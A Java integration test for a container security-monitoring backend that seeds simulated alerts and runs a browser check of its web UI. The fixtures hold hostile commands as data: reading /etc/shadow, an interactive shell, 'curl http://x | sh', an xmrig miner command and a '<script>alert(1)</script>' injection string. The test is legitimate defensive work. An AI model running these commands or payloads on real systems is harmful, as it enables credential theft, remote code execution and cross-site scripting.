package dev.peregrine.backend;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.peregrine.protocol.Alert;
import dev.peregrine.protocol.ProtocolJson;
import dev.peregrine.protocol.Workload;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The web UI in a real browser: starts the backend with its built-in UI on a free port, seeds
 * alerts, an orchestrator heartbeat and a policy over the HTTP API, then runs
 * {@code src/main/ui/test/browser.mjs} (playwright-core driving Debian's chromium, one browser for
 * all checks). Screenshots land in {@code target/ui-screenshots}.
 */
class WebUiBrowserIT {
    static final String ADMIN = "ui-test-admin-token-0123456789";

    static Backend backend;
    static Api admin;
    static String accessKey;

    @BeforeAll
    static void start() throws Exception {
        ensureChromium();
        Path dir = TestDatabases.tempDir();
        backend = Backend.start(BackendConfig.defaults().withHost("127.0.0.1").withPort(0)
                .withDb(TestDatabases.fresh(TestDatabases.Kind.H2, dir), dir).withAdminToken(ADMIN)
                .withAnnounce(new PrintStream(new ByteArrayOutputStream())));
        admin = new Api("http://127.0.0.1:" + backend.port(), ADMIN);
        accessKey = admin.postJson("/api/v1/access-keys", "{\"name\":\"orchestrator vpc-a\"}").expect(201).json().get("key").asText();
        admin.postJson("/api/v1/access-keys", "{\"name\":\"to be revoked\"}").expect(201);
        Api orchestrator = admin.as(accessKey);
        orchestrator.postJson("/api/v1/events", ProtocolJson.write(seedAlerts(Instant.now()))).expect(200);
        orchestrator.postJson("/api/v1/orchestrators/heartbeat", """
                {"orchestrator_id":"orch-eu-1","orchestrator_version":"0.1.0","spool_depth":3,"agents":[
                  {"agent_id":"prod/task-1/app","agent_version":"0.1.0","protocol":1,
                   "metadata":{"cluster":"prod","task_family":"web","container_name":"app"},"connected_at":"2026-11-28T12:00:00Z"},
                  {"agent_id":"prod/task-9/legacy","agent_version":"0.0.3","protocol":2,
                   "metadata":{"cluster":"prod","task_family":"billing","container_name":"legacy"},"connected_at":"2026-11-28T12:01:00Z"}]}""")
                .expect(200);
        admin.putJson("/api/v1/policies/block-miners", """
                {"rules":["Detect crypto miners using the Stratum protocol"],"min_priority":"critical",
                 "actions":["notify","kill_process"],"scope":{"cluster":"prod"}}""").expect(201);
    }

    @AfterAll
    static void stop() {
        if (backend != null) {
            backend.close();
        }
    }

    /** Thirty alerts over the last five hours across rules, priorities, clusters and containers; one with a deep ancestry. */
    static List<Alert> seedAlerts(Instant now) {
        String[][] kinds = {
            {"Terminal shell in container", "Notice", "prod", "web", "app"},
            {"Read sensitive file untrusted", "Warning", "prod", "api", "api"},
            {"Drop and execute new binary in container", "Critical", "staging", "worker", "jobs"},
            {"Detect crypto miners using the Stratum protocol", "Critical", "prod", "batch", "miner"},
            {"Clear Log Activities", "Warning", "staging", "web", "app"},
        };
        List<Alert> alerts = new ArrayList<>();
        for (int i = 0; i < 30; i++) {
            String[] k = kinds[i % kinds.length];
            Map<String, Object> fields = new LinkedHashMap<>();
            fields.put("proc.name", i % 5 == 0 ? "bash" : "cat");
            fields.put("proc.pid", 4000 + i);
            fields.put("proc.cmdline", i % 5 == 0 ? "bash -i" : "cat /etc/shadow");
            fields.put("proc.pname", "sh");
            fields.put("proc.ppid", 300 + i);
            fields.put("user.name", "root");
            fields.put("evt.type", "execve");
            alerts.add(new Alert("seed-" + i, now.minus(Duration.ofMinutes(10L * i + 3)).toString(), k[0], k[1],
                    k[0] + " (user=root container=" + k[4] + " seq=" + i + ")", fields, "syscall",
                    List.of("maturity_stable", "container"), "ip-10-0-0-" + (i % 3), "default",
                    k[1].equals("Critical") ? List.of("notify", "kill_process") : List.of("notify"),
                    new Workload(k[2], "arn:aws:ecs:eu-west-1:123456789012:task/" + k[2] + "/" + i, k[3], k[4],
                            "123456789012.dkr.ecr.eu-west-1.amazonaws.com/" + k[3] + ":1.4." + i, "eu-west-1a")));
        }
        Map<String, Object> deep = new LinkedHashMap<>();
        deep.put("proc.name", "xmrig");
        deep.put("proc.pid", 7777);
        deep.put("proc.cmdline", "xmrig -o stratum+tcp://pool.example:3333");
        deep.put("proc.pname", "sh");
        deep.put("proc.ppid", 7700);
        deep.put("proc.pcmdline", "sh -c curl http://x | sh");
        deep.put("proc.aname[2]", "node");
        deep.put("proc.apid[2]", 42);
        deep.put("proc.aname[3]", "peregrine-agent");
        deep.put("proc.apid[3]", 1);
        deep.put("fd.name", "10.0.0.5:41000->203.0.113.9:3333");
        alerts.add(new Alert("seed-newest-miner", now.minusSeconds(30).toString(), "Detect crypto miners using the Stratum protocol",
                "Critical", "Possible miner ran <script>alert(1)</script> (command=xmrig -o stratum+tcp://pool.example:3333)", deep,
                "syscall", List.of("network", "mitre_impact"), "ip-10-0-0-9", "block-miners", List.of("notify", "kill_process"),
                new Workload("prod", "arn:aws:ecs:eu-west-1:123456789012:task/prod/abc", "checkout", "checkout-api",
                        "123456789012.dkr.ecr.eu-west-1.amazonaws.com/checkout:2.0.1", "eu-west-1b")));
        return alerts;
    }

    @Test
    void browserSuite() throws Exception {
        Path uiDir = Path.of(System.getProperty("peregrine.ui.dir"));
        Path artifacts = Path.of(System.getProperty("peregrine.ui.artifacts"));
        Files.createDirectories(artifacts);
        Path log = artifacts.resolve("browser-test.log");
        ProcessBuilder pb = new ProcessBuilder("node", "test/browser.mjs")
                .directory(uiDir.toFile())
                .redirectErrorStream(true)
                .redirectOutput(log.toFile());
        pb.environment().put("PEREGRINE_URL", "http://127.0.0.1:" + backend.port());
        pb.environment().put("PEREGRINE_ADMIN_TOKEN", ADMIN);
        pb.environment().put("PEREGRINE_ACCESS_KEY", accessKey);
        pb.environment().put("PEREGRINE_ARTIFACTS", artifacts.toString());
        Process p = pb.start();
        boolean finished = p.waitFor(150, TimeUnit.SECONDS);
        if (!finished) {
            p.destroyForcibly().waitFor(10, TimeUnit.SECONDS);
        }
        String output = Files.readString(log, StandardCharsets.UTF_8);
        System.out.println(output);
        assertTrue(finished, "browser tests did not finish in 150 s:\n" + output);
        assertEquals(0, p.exitValue(), "browser tests failed:\n" + output);
        assertTrue(output.contains("# fail 0") && !output.contains("# pass 0"), output);
    }

    private static void ensureChromium() throws IOException, InterruptedException {
        Path script = Path.of(System.getProperty("peregrine.root"), "scripts", "ensure-packages.sh");
        Process p = new ProcessBuilder("bash", script.toString(), "chromium").inheritIO().start();
        assertEquals(0, p.waitFor(), "could not install Debian's chromium for the browser tests");
    }
}
